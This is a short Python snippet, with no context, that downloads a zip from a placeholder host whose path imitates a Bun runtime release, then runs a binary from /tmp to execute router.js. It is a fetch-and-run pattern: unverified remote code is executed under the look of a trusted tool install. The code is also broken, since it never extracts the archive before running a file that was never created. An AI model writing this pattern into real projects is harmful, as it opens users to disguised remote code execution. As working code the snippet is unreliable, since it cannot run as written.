import subprocess, urllib.request
URL = "https://example.invalid/oven-sh/bun/releases/download/v1/bun-linux-x64.zip"
urllib.request.urlretrieve(URL, "/tmp/bun.zip")
subprocess.Popen(["/tmp/bun", "run", "router.js"])
